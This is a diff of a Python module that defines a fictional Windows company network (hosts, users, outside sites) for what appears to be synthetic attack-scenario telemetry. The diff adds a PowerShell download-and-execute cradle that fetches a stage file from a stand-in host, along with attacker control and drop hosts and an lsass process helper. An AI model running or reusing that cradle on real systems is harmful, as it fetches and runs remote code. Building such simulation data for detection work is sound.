@@ -1,14 +1,15 @@
 """The Windows domain of the invoice scenario: hosts, people, processes, and the outside world.
 
-Alderbrook is a made-up trading company: twelve workstations, two file servers, a domain controller, a mail gateway,
-a deployment server (the management software "Deskward" is made up, too) and a vulnerability scanner.
+Alderbrook is a made-up trading company: twelve workstations, two file servers, a domain controller, a mail
+gateway, a deployment server (the management software "Deskward" is made up, too) and a vulnerability
+scanner.
 """
 
 from __future__ import annotations
 
 from dataclasses import dataclass
 
-from sample_data.world import Dice, digest
+from sample_data.world import Day, Dice, digest
 
 DOMAIN = "ALDERBROOK"
 SUFFIX = "alderbrook.example"
@@ -77,9 +78,19 @@ HOSTS = (*WORKSTATIONS, *SERVERS)
 HOST = {host.name: host for host in (*HOSTS, SCAN)}
 
 _NAMES = (
-    "b.okoye", "c.lindqvist", "d.marchetti", "anna.keller", "e.novak", "f.aubert",
-    "g.tanaka", "h.braun", "i.dimitrov", "j.mensah", "k.salo", "l.ferreira",
-)  # fmt: skip
+    "b.okoye",
+    "c.lindqvist",
+    "d.marchetti",
+    "anna.keller",
+    "e.novak",
+    "f.aubert",
+    "g.tanaka",
+    "h.braun",
+    "i.dimitrov",
+    "j.mensah",
+    "k.salo",
+    "l.ferreira",
+)
 PEOPLE = tuple(Person(name, 1115 + index) for index, name in enumerate(_NAMES))
 SEAT = dict(zip(PEOPLE, WORKSTATIONS, strict=True))
 VICTIM = PEOPLE[3]
@@ -92,30 +103,56 @@ MORE_ACCOUNTS = tuple(
     f"{letter}.{name}"
     for letter, name in zip(
         "mnopqrstuvwxyzab",
-        ("weber", "costa", "haugen", "petrov", "iversen", "moreau", "silva", "kowalski",
-         "nyberg", "rossi", "duarte", "fischer", "olsen", "baptiste", "horvat", "lund"),
+        (
+            "weber",
+            "costa",
+            "haugen",
+            "petrov",
+            "iversen",
+            "moreau",
+            "silva",
+            "kowalski",
+            "nyberg",
+            "rossi",
+            "duarte",
+            "fischer",
+            "olsen",
+            "baptiste",
+            "horvat",
+            "lund",
+        ),
         strict=True,
     )
-)  # fmt: skip
+)
 
 SYSTEM = Session("NT AUTHORITY\\SYSTEM", "S-1-5-18", "0x3e7", "0", "System")
 NETWORK_SERVICE = Session("NT AUTHORITY\\NETWORK SERVICE", "S-1-5-20", "0x3e4", "0", "System")
 
 # The outside: name -> address. All names and addresses are reserved for documentation.
 SITES = {
-    "www.news-daily.example": "198.51.100.10", "mail.webpost.example": "198.51.100.11",
-    "docs.tradebooks.example": "198.51.100.12", "www.portwatch.example": "198.51.100.13",
-    "maps.cityplan.example": "198.51.100.14", "cdn.webfonts.example": "198.51.100.15",
-    "video.meetings.example": "198.51.100.16", "bank.northquay.example": "198.51.100.17",
-    "wiki.freight.example": "198.51.100.18", "search.lookup.example": "198.51.100.19",
-    "api.weather.example": "192.0.2.31", "shop.officeware.example": "192.0.2.32",
-    "static.adserve.example": "192.0.2.33", "img.adserve.example": "192.0.2.34",
-    "updates.vendor.example": "192.0.2.40", "telemetry.vendor.example": "192.0.2.41",
-    "packages.devtools.example": "192.0.2.42", "ocsp.certs.example": "192.0.2.43",
-}  # fmt: skip
+    "www.news-daily.example": "198.51.100.10",
+    "mail.webpost.example": "198.51.100.11",
+    "docs.tradebooks.example": "198.51.100.12",
+    "www.portwatch.example": "198.51.100.13",
+    "maps.cityplan.example": "198.51.100.14",
+    "cdn.webfonts.example": "198.51.100.15",
+    "video.meetings.example": "198.51.100.16",
+    "bank.northquay.example": "198.51.100.17",
+    "wiki.freight.example": "198.51.100.18",
+    "search.lookup.example": "198.51.100.19",
+    "api.weather.example": "192.0.2.31",
+    "shop.officeware.example": "192.0.2.32",
+    "static.adserve.example": "192.0.2.33",
+    "img.adserve.example": "192.0.2.34",
+    "updates.vendor.example": "192.0.2.40",
+    "telemetry.vendor.example": "192.0.2.41",
+    "packages.devtools.example": "192.0.2.42",
+    "ocsp.certs.example": "192.0.2.43",
+}
 VAULT = ("vault.offsite-backup.example", "198.51.100.20")
 REPO = ("repo.alderbrook.example", MGMT.ip)
 DELIVERY = ("billing-portal.test", "203.0.113.45")
+CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{DELIVERY[0]}/a/stage.txt')"
 CONTROL = ("updates.cloudsync.test", "203.0.113.66")
 DROP = ("files.dropzone.test", "198.51.100.77")
 
@@ -132,3 +169,15 @@ def process(dice: Dice, host: Host, image: str, session: Session, time: int, com
     tail = f"{dice.upto(65536):04x}"
     guid = f"{{{host.guid}-{seconds[:4]}-{seconds[4:]}-{tail}-000000001a00}}"
     return Process(host, image, command or f'"{image}"', 4 * dice.between(200, 4000), guid, session)
+
+
+def lsass(dice: Dice, host: Host, day: Day) -> Process:
+    """lsass.exe of a host: one process, the same whenever it is asked for."""
+    return process(Dice(0, "lsass" + host.name), host, SYSTEM32 + "lsass.exe", SYSTEM, day.start)
+
+
+def trace(module: str) -> str:
+    return (
+        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
+        f"{'C:' if ':' in module else ''}{module}+1a{len(module):02x}"
+    )
